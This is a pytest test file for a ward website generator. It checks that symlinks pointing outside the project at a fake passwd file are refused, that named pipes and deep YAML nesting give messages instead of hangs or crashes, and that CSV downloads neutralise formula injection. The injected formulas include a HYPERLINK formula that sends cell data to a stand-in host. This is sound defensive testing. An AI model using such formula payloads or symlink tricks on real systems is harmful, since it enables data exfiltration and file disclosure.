"""Hostile input: links leading outside, files that are not files, crashing nesting, and
spreadsheet formulas in the downloads. Messages are checked exactly, and never leak."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from generator.load_csv import parse_results_csv
from generator.opendata import apologies_csv, catalogue_csv, neutralise, results_csv
from generator.project import Project, load_project
from generator.site.build import build_site

from .conftest import FIXTURE_WARD

SECRET = "root:x:0:0:BI-MAT-KHONG-DUOC-LO"


@pytest.fixture
def ward(tmp_path: Path) -> Path:
    """The fixture ward in tmp_path/ward, and a private file outside it in tmp_path/ngoai."""
    shutil.copytree(FIXTURE_WARD, tmp_path / "ward")
    outside = tmp_path / "ngoai"
    outside.mkdir()
    (outside / "passwd").write_text(f"{SECRET}\nname: {SECRET}\n", encoding="utf-8")
    (outside / "thu-muc").mkdir()
    (outside / "thu-muc" / "a.yml").write_text(f"name: {SECRET}\n", encoding="utf-8")
    return tmp_path / "ward"


def _messages(root: Path) -> list[str]:
    return [str(problem) for problem in load_project(Project(root)).problems]


def test_links_leading_outside_are_refused_by_name_and_never_read(ward: Path) -> None:
    outside = ward.parent / "ngoai"
    (ward / "content" / "contacts" / "lien-ket.yml").symlink_to(outside / "passwd")
    (ward / "content" / "procedures" / "lien-ket.YML").symlink_to(outside / "passwd")
    (ward / "content" / "feedback.yml").unlink()
    (ward / "content" / "feedback.yml").symlink_to(outside / "passwd")
    shutil.rmtree(ward / "content" / "apologies")
    (ward / "content" / "apologies").symlink_to(outside / "thu-muc", target_is_directory=True)
    (ward / "docs" / "huong-dan").mkdir(parents=True)
    (ward / "docs" / "huong-dan" / "bi-mat.md").symlink_to(outside / "passwd")
    (ward / "docs" / "ngoai").symlink_to(outside / "thu-muc", target_is_directory=True)
    (ward / "content" / "forms" / "mau.docx").symlink_to(outside / "passwd")
    file_link = (
        "tệp này là liên kết (symlink) trỏ ra ngoài thư mục trang web nên không được đọc; "
        "hãy chép tệp thật vào đây thay cho liên kết"
    )
    folder_link = (
        "thư mục này là liên kết (symlink) trỏ ra ngoài thư mục trang web nên không được đọc; "
        "hãy chép các tệp thật vào đây thay cho liên kết"
    )
    assert _messages(ward) == [
        f"content/apologies:1:1: {folder_link}",
        f"content/contacts/lien-ket.yml:1:1: {file_link}",
        f"content/feedback.yml:1:1: {file_link}",
        f"content/forms/mau.docx:1:1: {file_link}",
        f"content/procedures/lien-ket.YML:1:1: {file_link}",
        f"docs/huong-dan/bi-mat.md:1:1: {file_link}",
        f"docs/ngoai:1:1: {folder_link}",
    ]
    assert Project(ward).docs_files() == []


def test_a_link_inside_the_project_is_read(ward: Path) -> None:
    shared = ward / "chung"
    shared.mkdir()
    shutil.move(ward / "content" / "contacts" / "ubnd-phuong.yml", shared / "ubnd-phuong.yml")
    (ward / "content" / "contacts" / "ubnd-phuong.yml").symlink_to(shared / "ubnd-phuong.yml")
    result = load_project(Project(ward))
    assert result.content is not None and len(result.content.contacts) == 1


def test_broken_links_and_pipes_are_named_not_opened(ward: Path) -> None:
    contacts = ward / "content" / "contacts"
    (contacts / "hong.yml").symlink_to(ward / "khong-co.yml")
    os.mkfifo(contacts / "ong-dan.yml")  # reading it would wait forever
    assert _messages(ward) == [
        "content/contacts/hong.yml:1:1: tệp này là liên kết (symlink) hỏng nên không được "
        "đọc; hãy thay bằng tệp thật",
        "content/contacts/ong-dan.yml:1:1: đây không phải một tệp thông thường (ống dẫn, thiết "
        "bị…) nên không được đọc; hãy xóa khỏi thư mục",
    ]


def test_extreme_nesting_is_a_message_not_a_crash(ward: Path) -> None:
    # 1.9 MB of "[" made libyaml overflow the C stack (exit 139, no message).
    nested = "name: " + "[" * 950_000 + "]" * 950_000 + "\n"
    (ward / "content" / "contacts" / "long.yml").write_text(nested, encoding="utf-8")
    run = subprocess.run(
        [sys.executable, "-m", "generator", "-C", str(ward), "check"],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert run.returncode == 1, run.stderr
    assert (
        "content/contacts/long.yml:1:46: nội dung lồng nhau quá sâu (hơn 40 cấp) từ chỗ này"
        in run.stdout + run.stderr
    )


def _rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "@SUM(A1:A9)", "+1+1", "-1+1"]


def test_neutralise_follows_owasp() -> None:
    for formula in [*FORMULAS, "\t=1", "\r=1", " =1", "＝1"]:
        assert neutralise(formula) == "'" + formula
    for plain in ["Hộ tịch", "1.001193", 12, "", "a=b", "1-2"]:
        assert neutralise(plain) == plain


def _content(ward: Path) -> object:
    result = load_project(Project(ward))
    assert result.content is not None, "\n".join(map(str, result.problems))
    return result.content


def test_catalogue_csv_neutralises_formulas(ward: Path) -> None:
    path = ward / "content" / "procedures" / "dang-ky-khai-sinh.yml"
    text = path.read_text(encoding="utf-8")
    text = text.replace("name: Thủ tục đăng ký khai sinh", f"name: '{FORMULAS[0]}'", 1)
    path.write_text(text.replace("field: Hộ tịch", f"field: '{FORMULAS[1]}'", 1), "utf-8")
    rows = _rows(catalogue_csv(_content(ward)))  # type: ignore[arg-type]
    row = next(r for r in rows if r[0] == "1.001193")
    assert row[1:3] == [f"'{FORMULAS[0]}", f"'{FORMULAS[1]}"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_results_csv_neutralises_formulas_and_reads_back(ward: Path) -> None:
    (ward / "content" / "results" / "2026-10.yml").write_text(
        f"fields:\n  - field: '{FORMULAS[2]}'\n    received_in_person: 3\n"
        f"    note: '{FORMULAS[3]}'\n",
        encoding="utf-8",
    )
    text = results_csv(_content(ward))  # type: ignore[arg-type]
    rows = _rows(text)
    row = next(r for r in rows if r[1] == "10")
    assert (row[2], row[-1]) == (f"'{FORMULAS[2]}", f"'{FORMULAS[3]}")
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    # The download is still a valid import, and the import takes the quote off again.
    read = parse_results_csv(text[1:], "ket-qua.csv")
    fields = read.data["fields"]
    assert fields[-1]["field"] == FORMULAS[2] and fields[-1]["note"] == FORMULAS[3]


def test_apologies_csv_neutralises_formulas(ward: Path) -> None:
    path = ward / "content" / "apologies" / "2026-09-0101.yml"
    text = path.read_text(encoding="utf-8").replace('"H19.***.0101"', '"-H19.***.0101"')
    text = text.replace(
        "reason: Cần xác minh", 'reason: =HYPERLINK("http://x.example") Cần xác minh'
    )
    path.write_text(text, encoding="utf-8")
    rows = _rows(apologies_csv(_content(ward)))  # type: ignore[arg-type]
    row = next(r for r in rows if r[0].endswith("0101"))
    assert row[0] == "'-H19.***.0101"
    assert row[5].startswith("'=HYPERLINK(")
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_a_link_in_docs_is_never_published_even_unchecked(
    ward: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    outside = ward.parent / "ngoai"
    (ward / "docs").mkdir()
    (ward / "docs" / "meo.md").write_text("# Mẹo\n\nTrang thật.\n", encoding="utf-8")
    (ward / "docs" / "bi-mat.md").symlink_to(outside / "passwd")
    (ward / "docs" / "ngoai").symlink_to(outside / "thu-muc", target_is_directory=True)
    # The build's own filter, on its own: pretend check had not refused the links.
    monkeypatch.setattr(Project, "folder_problems", lambda self, *, catalogue: [])
    result = load_project(Project(ward))
    assert result.content is not None, "\n".join(map(str, result.problems))
    site = build_site(Project(ward), result.content, tmp_path / "site").site_dir
    assert (site / "meo.html").is_file()
    assert not (site / "bi-mat.html").exists() and not (site / "ngoai").exists()
    leaked = [p for p in site.rglob("*") if p.is_file() and SECRET.encode() in p.read_bytes()]
    assert leaked == []
